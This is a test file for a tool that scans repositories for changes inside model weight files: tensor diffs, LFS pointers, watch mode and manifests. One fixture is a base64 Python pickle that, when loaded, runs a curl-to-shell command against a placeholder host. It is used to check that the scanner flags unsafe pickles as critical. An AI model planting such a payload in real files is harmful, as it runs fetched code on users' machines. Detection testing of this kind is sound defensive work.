import { readFileSync } from 'node:fs';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Ajv } from 'ajv';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { Incident } from '../../src/engine/incident.js';
import { buildSafetensors, f32 } from '../formats/weights/builders/safetensors.js';
import { createTestRepo, type TestRepo } from '../helpers/git-repo.js';
import { runCli } from '../helpers/run-cli.js';
import { scan } from '../helpers/scan.js';
import { startTestWatch } from '../helpers/watch.js';

const schema = JSON.parse(readFileSync(new URL('../../src/report/report.schema.json', import.meta.url), 'utf8')) as object;
const validateReport = new Ajv({ allErrors: true, strict: false }).compile(schema);

/** A pickle (protocol 2) of {'model': <object reducing to posix.system("curl … | sh")>}, as Python writes it. */
const SYSTEM_PICKLE = Buffer.from('gAJ9cQBYBQAAAG1vZGVscQFjcG9zaXgKc3lzdGVtCnECWB0AAABjdXJsIC1zIGh0dHA6Ly94LmludmFsaWQgfCBzaHEDhXEEUnEFcy4=', 'base64');

function checkpoint(bias: number, extra = 0): Buffer {
  return buildSafetensors([
    { name: 'model.embed.weight', dtype: 'F32', shape: [4, 2], data: f32(1, 2, 3, 4, 5, 6, 7, 8 + extra) },
    { name: 'model.head.bias', dtype: 'F32', shape: [2], data: f32(bias, 0.5) },
  ]);
}

function lfsPointer(oid: string, size: number): string {
  return `version https://git-lfs.github.com/spec/v1\noid sha256:${oid}\nsize ${size}\n`;
}

function weightsOf(incidents: readonly Incident[], file: string) {
  return incidents.find((incident) => incident.file === file && incident.binary?.weights)?.binary?.weights;
}

describe('what changed inside weight files', () => {
  let repo: TestRepo;

  beforeEach(async () => {
    repo = await createTestRepo();
    await repo.commitFiles('start', { 'checkpoints/model.safetensors': checkpoint(0.25), 'README.md': '# x\n' });
  });

  afterEach(async () => {
    await repo.cleanup();
  });

  it('names the changed tensor of a committed checkpoint, with the elements that changed', async () => {
    await repo.commitFiles('Tune the head', { 'checkpoints/model.safetensors': checkpoint(9.75) });
    const { report, failure } = await scan(repo.root);
    expect(failure).toBeNull();
    expect(validateReport(report), JSON.stringify(validateReport.errors)).toBe(true);
    const weights = weightsOf(report.incidents.filter((i) => i.source.kind === 'commit' && i.source.subject === 'Tune the head'), 'checkpoints/model.safetensors');
    expect(weights?.format).toBe('safetensors');
    expect(weights?.tensors?.changed).toEqual([{ name: 'model.head.bias', dtype: 'F32', shape: [2], elementsChanged: 1, maxAbsDelta: 9.5 }]);
    expect(weights?.tensors?.added).toEqual([]);
  });

  it('reports a pickle that runs code, whatever its name, as critical', async () => {
    await repo.commitFiles('Add notes', { 'docs/notes.txt': SYSTEM_PICKLE });
    const { report } = await scan(repo.root);
    const incident = report.incidents.find((i) => i.ruleId === 'checkpoint-imports-unsafe-code');
    expect(incident).toMatchObject({ file: 'docs/notes.txt', severity: 'critical', category: 'weights' });
    expect(incident?.binary?.weights?.unsafeGlobals).toContain('posix.system');
  });

  it('carries both oids of a Git LFS pointer that changed', async () => {
    const [a, b] = ['a'.repeat(64), 'b'.repeat(64)];
    await repo.commitFiles('Track with LFS', { 'model/pytorch_model.bin': lfsPointer(a, 1000) });
    await repo.commitFiles('New weights', { 'model/pytorch_model.bin': lfsPointer(b, 2000) });
    const { report } = await scan(repo.root);
    const changed = report.incidents.filter((i) => i.source.kind === 'commit' && i.source.subject === 'New weights');
    expect(weightsOf(changed, 'model/pytorch_model.bin')?.lfs).toEqual({ oldOid: `sha256:${a}`, newOid: `sha256:${b}`, oldSize: 1000, newSize: 2000 });
  });

  it('reads a large checkpoint in the working tree from disk to name what changed', async () => {
    // Past the size kept in memory for diffs, so the weights are read through the file itself.
    const big = (bias: number) =>
      buildSafetensors([
        { name: 'big', dtype: 'F32', shape: [5 * 1024 * 1024], data: Buffer.alloc(20 * 1024 * 1024) },
        { name: 'model.head.bias', dtype: 'F32', shape: [2], data: f32(bias, 0.5) },
      ]);
    await repo.commitFiles('Big checkpoint', { 'checkpoints/big.safetensors': big(1) });
    await repo.write({ 'checkpoints/big.safetensors': big(2) });
    const { report } = await scan(repo.root, { history: false });
    const weights = weightsOf(report.incidents, 'checkpoints/big.safetensors');
    expect(weights?.tensors?.changed.map((tensor) => tensor.name)).toEqual(['model.head.bias']);
  });

  it('names the changed tensor in a watch, from the baseline summary, without a copy of the old file', async () => {
    const watch = await startTestWatch(repo.root);
    try {
      await writeFile(join(repo.root, 'checkpoints/model.safetensors'), checkpoint(0.25, 1));
      const incident = await watch.waitFor((i) => i.file === 'checkpoints/model.safetensors' && Boolean(i.binary?.weights), 'the checkpoint edit');
      expect(incident.binary?.weights?.tensors?.changed.map((tensor) => tensor.name)).toEqual(['model.embed.weight']);
    } finally {
      await watch.stop();
    }
  });

  it('names the changed tensor against a snapshot manifest', async () => {
    const scratch = await mkdtemp(join(tmpdir(), 'selfmod-weights-manifest-'));
    try {
      const manifest = join(scratch, 'm.jsonl');
      expect((await runCli(['snapshot', repo.root, '--output', manifest])).code).toBe(0);
      await writeFile(join(repo.root, 'checkpoints/model.safetensors'), checkpoint(-3));
      const result = await runCli(['scan', repo.root, '--against', manifest, '--format', 'json']);
      const report = JSON.parse(result.stdout) as { incidents: Incident[] };
      expect(weightsOf(report.incidents, 'checkpoints/model.safetensors')?.tensors?.changed.map((tensor) => tensor.name)).toEqual(['model.head.bias']);
      const text = await runCli(['scan', repo.root, '--against', manifest, '--format', 'text']);
      expect(text.stdout).toContain('weights (safetensors): tensors changed: model.head.bias');
    } finally {
      await rm(scratch, { recursive: true, force: true });
    }
  });
});
